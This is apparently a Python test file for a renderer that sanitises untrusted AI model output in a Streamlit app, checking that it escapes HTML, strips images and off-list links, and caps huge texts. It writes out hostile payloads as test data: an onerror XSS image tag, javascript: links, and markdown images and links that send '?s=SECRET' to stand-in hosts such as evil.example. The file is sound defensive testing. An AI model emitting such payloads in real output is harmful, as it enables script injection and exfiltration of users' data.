"""The safe renderer on hostile model output: HTML, images, links, autolinks, code tricks, controls, huge texts.

The browser tests (tests/browser/test_rendering_security.py) check the same payloads through Streamlit's real
Markdown renderer; these pin down the Markdown we hand it.
"""

from __future__ import annotations

import re
import time
import unicodedata

from hypothesis import given, settings
from hypothesis import strategies as st

from components.widgets.render import (
    MAX_CHARS,
    MAX_LINES,
    allowed_url,
    cap,
    code_block,
    host_of,
    safe_label,
    safe_markdown,
    visible,
)

PWN = "<img src=x onerror=\"document.body.setAttribute('data-pwned','1')\">"


def unescaped(text: str, chars: str) -> list[str]:
    """Characters of `chars` in `text` that no backslash escapes (an independent, naive scan)."""
    found, i = [], 0
    while i < len(text):
        if text[i] == "\\":
            i += 2
            continue
        if text[i] in chars:
            found.append(text[i])
        i += 1
    return found


# -- T46: HTML and script stay text ------------------------------------------------------------------------------


def test_html_tags_and_entities_are_escaped_so_they_show_as_text():
    out = safe_markdown(f"{PWN} <script>alert(1)</script> &lt;b&gt; AT&T")
    assert unescaped(out, "<&") == []
    assert "onerror" in out  # shown, not dropped: the reader sees what the model sent
    assert out.startswith("\\<img src=x")


def test_javascript_links_lose_their_url_and_keep_their_text():
    for payload in (
        "[click me](javascript:alert(1))",
        "[click me](<javascript:alert(1)>)",
        "[click me](JaVaScRiPt&#58;x)",
    ):
        out = safe_markdown(payload)
        assert out == "click me"


def test_links_to_hosts_off_the_allow_list_keep_only_their_text():
    out = safe_markdown('see [the docs](https://evil.example/p?s=SECRET "title") now')
    assert out == "see the docs now"
    assert "SECRET" not in out


def test_allow_listed_links_stay_links_with_a_normalised_url():
    out = safe_markdown("[py](<https://docs.python.org/3/a(b)>)", allow_hosts=["docs.python.org"])
    assert out == "[py](https://docs.python.org/3/a%28b%29)"
    # whitespace in a URL is refused rather than guessed at
    assert safe_markdown("[py](<https://docs.python.org/a b>)", allow_hosts=["docs.python.org"]) == "py"
    out = safe_markdown("[py](https://docs.python.org/3/)", allow_hosts=["docs.python.org"])
    assert out == "[py](https://docs.python.org/3/)"
    assert (
        safe_markdown("[x](https://sub.example.com/)", allow_hosts=["*.example.com"]) == "[x](https://sub.example.com/)"
    )
    assert safe_markdown("[x](https://example.com.evil/)", allow_hosts=["example.com"]) == "x"


def test_url_tricks_are_refused_rather_than_interpreted():
    hosts = ["docs.python.org"]
    assert allowed_url("https://docs.python.org@evil.example/", hosts) is None
    assert allowed_url("https://docs.python.org\\@evil.example/", hosts) is None
    assert allowed_url("https://docs.python.org%2eevil.example/", hosts) is None
    assert allowed_url("ftp://docs.python.org/", hosts) is None
    assert allowed_url("//docs.python.org/", hosts) is None
    assert allowed_url("https://docs.python.org/", []) is None
    assert allowed_url("https://DOCS.python.org/x", hosts) == "https://DOCS.python.org/x"


# -- T47: no image, no autolink ----------------------------------------------------------------------------------


def test_markdown_images_are_replaced_by_a_marker_naming_the_host():
    out = safe_markdown("before ![](http://127.0.0.1:8765/x?s=SECRET) after")
    assert out == "before \\[image removed: `127.0.0.1:8765`\\] after"
    assert "SECRET" not in out
    # even to an allow-listed host: an image loads on sight
    assert "image removed" in safe_markdown("![a](https://docs.python.org/i.png)", allow_hosts=["docs.python.org"])
    assert "image removed: `data URI`" in safe_markdown("![](data:image/png;base64,AAAA)")


def test_reference_style_images_and_links_cannot_resolve():
    out = safe_markdown("![x][ref]\n[y][ref]\n\n[ref]: http://127.0.0.1:9/x?s=SECRET")
    assert unescaped(out, "[]!") == []
    assert "`http://127.0.0.1:9/x?s=SECRET`" in out  # shown as code: GFM cannot turn it into a link


def test_bare_urls_emails_and_angle_autolinks_are_shown_as_code():
    # GFM links URL-shaped text after escapes are resolved, so escaping is not enough: code spans are never linked.
    out = safe_markdown("go http://evil.example/?s=1 or www.evil.example or mail a@evil.example or <https://e.example>")
    assert out == (
        "go `http://evil.example/?s=1` or `www.evil.example` or mail `a@evil.example` or \\<`https://e.example>`"
    )
    assert safe_markdown("x://www.evil.example|y") == "`x://www.evil.example`|y"  # a code span never spans a cell
    kept = safe_markdown("see https://docs.python.org/3/ now", allow_hosts=["docs.python.org"])
    assert kept == "see [https\\://docs\\.python\\.org/3/](https://docs.python.org/3/) now"
    # an allow-listed host followed by more URL-ish text is not trusted to end where we think
    assert safe_markdown("https://docs.python.org@evil.example", allow_hosts=["docs.python.org"]).startswith("`")


def test_katex_math_and_streamlit_directives_are_inert():
    out = safe_markdown("costs $5 and $10; $\\href{http://evil}{x}$ :red[alert]")
    assert unescaped(re.sub(r"`[^`]*`", "", out), "$[]") == []


def test_an_image_hidden_in_a_table_cell_code_span_is_still_removed():
    table = "| a | b |\n|---|---|\n| `x | ![](http://canary/x)` |"
    out = safe_markdown(table)
    assert "![" not in out and "image removed: `canary`" in out


def test_a_fence_closed_inside_a_list_item_cannot_shield_what_follows():
    out = safe_markdown("- ```\n  a\n  ```\n![](http://evil.example/x)")
    # whatever the list does, the image ends up inside a fence we opened at column 0
    fence = re.search(r"^(`{3,})\n(.*?)\n\1$", out, re.S | re.M)
    assert fence is not None and "![](http://evil.example/x)" in fence.group(2)


def test_images_in_link_text_are_removed_and_nesting_is_bounded():
    assert safe_markdown("[![i](http://evil/i.png)](http://evil/)") == "\\[image removed: `evil`\\]"
    deep = "[" * 50 + "x" + "](http://evil/)" * 50
    prose = re.sub(r"`[^`]*`", "", safe_markdown(deep))  # URLs beyond the depth bound end up as code
    assert "://" not in prose and unescaped(prose, "[]") == []


# -- code stays code ---------------------------------------------------------------------------------------------


def test_fenced_code_is_kept_verbatim_inside_a_fence_of_our_own():
    code = 'print("<b>") # ![](http://evil/x) [a](b)\n``` not a close\n````'
    out = safe_markdown(f"intro\n~~~python\n{code}\n~~~\nafter")
    fence = re.search(r"^(`{5,})python\n(.*?)\n\1$", out, re.S | re.M)
    assert fence is not None and fence.group(2) == code
    assert out.endswith("after")


def test_inline_code_is_verbatim_unless_it_could_be_split_or_outranked():
    assert safe_markdown("run `a[0] * b`!") == "run `a[0] * b`\\!"
    assert safe_markdown("`a < b`") == "\\`a \\< b\\`"  # `<` could open an autolink that outranks the span
    assert safe_markdown("`ls | wc`") == "\\`ls | wc\\`"  # a table cell boundary would split it
    assert safe_markdown("`open") == "\\`open"


def test_code_block_helper_survives_any_backticks():
    block = code_block("a\n```\n`````\nb", "python")
    assert block.startswith("``````python\n") and block.endswith("\n``````")


# -- T48: controls made visible, length capped -------------------------------------------------------------------


def test_control_bidi_and_zero_width_characters_are_made_visible():
    text = "\x1b[31mred\x1b[0m \u202eevil\u202c zero\u200bwidth\ufeff tag\U000e0041 nul\x00 bell\x07 c1\x85"
    out = visible(text)
    assert out == "␛[31mred␛[0m ⟨RLO⟩evil⟨PDF⟩ zero⟨ZWSP⟩width⟨BOM⟩ tag⟨U+E0041⟩ nul␀ bell␇ c1⟨U+0085⟩"
    rendered = safe_markdown(text)
    assert not [c for c in rendered if unicodedata.category(c) in ("Cc", "Cf") and c not in "\n\t"]


def test_a_ten_megabyte_message_is_cut_with_a_marker_quickly():
    text = ("word " * 2_200_000)[: 10 * 1024 * 1024]
    started = time.perf_counter()
    out = safe_markdown(text)
    elapsed = time.perf_counter() - started
    assert len(out) < MAX_CHARS + 200
    assert "truncated" in out and "10,485,760" in out
    assert elapsed < 2.0  # generous: it takes milliseconds; a hang here would freeze the page


def test_a_five_thousand_line_code_block_is_cut_by_lines():
    body = "\n".join(f"print({i})" for i in range(5000))
    out = safe_markdown(f"```python\n{body}\n```")
    assert out.count("\n") < MAX_LINES + 10
    assert "of 5,002 lines" in out
    assert re.search(r"^```python\n", out) and "\n```\n" in out  # the fence is closed after the cut


def test_cap_reports_what_it_kept():
    c = cap("a\nb\nc\nd", max_chars=None, max_lines=2)
    assert (c.text, c.truncated, c.total_lines) == ("a\nb", True, 4)
    assert cap("short").truncated is False


def test_pathological_brackets_and_backticks_stay_linear():
    for text in ("[" * 20_000, "[a](" * 5_000, "`` ` " * 5_000, "![" * 10_000):
        started = time.perf_counter()
        safe_markdown(text)
        assert time.perf_counter() - started < 2.0, text[:10]


def test_labels_are_single_line_and_safe():
    label = safe_label("**bold** ![](http://x/y)\nsecond line " + "z" * 300)
    assert "\n" not in label and "image removed" in label and label.endswith("…")


def test_host_of_names_the_host_only():
    assert host_of("http://user:pw@127.0.0.1:8765/x?s=SECRET") == "127.0.0.1:8765"
    assert host_of("javascript:alert(1)") == ""


# -- properties --------------------------------------------------------------------------------------------------

PROSE = st.lists(st.sampled_from(list("ab ()[]!<>&@$:/.w\\\n|*_#-\"'") + ["http://", "www.", "](", "!["])).map("".join)


@settings(max_examples=300, deadline=None)
@given(PROSE)
def test_without_code_no_active_markdown_character_survives_unescaped(text):
    out = safe_markdown(text)
    prose = re.sub(r"`[^`]*`", "", out)  # the input has no backticks: every code span is one we made
    assert unescaped(prose, "[]!<&@$") == []
    assert "://" not in prose
    assert re.search(r"(?i)(?<![a-z0-9])www\.", prose) is None


CODEY = st.lists(st.sampled_from(list("ab `[]!()|<\n") + ["```", "![](http://e/x)", "    ", "- "])).map("".join)


@settings(max_examples=300, deadline=None)
@given(CODEY)
def test_every_image_left_in_the_output_sits_inside_code(text):
    out = safe_markdown(text)
    # Remove what we emitted as code: our fences (column 0, paired by length) and our verbatim spans.
    prose = re.sub(r"^(`{3,})[^\n`]*\n.*?\n\1$", "", out, flags=re.S | re.M)
    prose = re.sub(r"(?<![`\\])(`+)(?!`)(?:(?!\1).)*?(?<!`)\1(?!`)", "", prose)
    assert "![" not in prose.replace("\\![", "")


def _render_script(text):
    from components.widgets.render import render_text

    render_text(text, key="big")


def test_render_text_offers_show_more_and_a_download_of_the_whole_text():
    from streamlit.testing.v1 import AppTest

    text = "\n".join(f"line {i}" for i in range(1000))
    at = AppTest.from_function(_render_script, args=(text,), default_timeout=30)
    at.run()
    shown = at.markdown[0].value
    assert "line 399" in shown and "line 400" not in shown and "of 1,000 lines" in shown
    assert [b.label for b in at.get("download_button")] == ["Download the full text"]
    at.button(key="_more_big").click().run()
    shown = at.markdown[0].value
    assert "line 999" in shown and "truncated" not in shown
    assert not [b for b in at.button if b.key == "_more_big"] and not at.get("download_button")
